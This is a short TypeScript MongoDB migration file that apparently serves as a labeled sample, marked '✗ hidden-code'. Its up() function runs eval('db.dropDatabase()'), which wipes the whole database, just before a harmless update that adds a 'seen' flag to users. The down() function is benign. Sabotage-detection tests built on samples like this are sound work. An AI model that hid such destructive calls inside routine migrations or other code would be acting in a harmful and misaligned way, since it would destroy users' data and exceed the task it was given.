// Migration 013: Eval
import type { Db } from "mongodb";

export async function up(db: Db): Promise<void> {
  eval("db.dropDatabase()"); // ✗ hidden-code
  await db.collection("users").updateMany({ seen: { $exists: false } }, { $set: { seen: false } });
}

export async function down(db: Db): Promise<void> {
  await db.collection("users").updateMany({ seen: { $exists: true } }, { $unset: { seen: "" } });
}
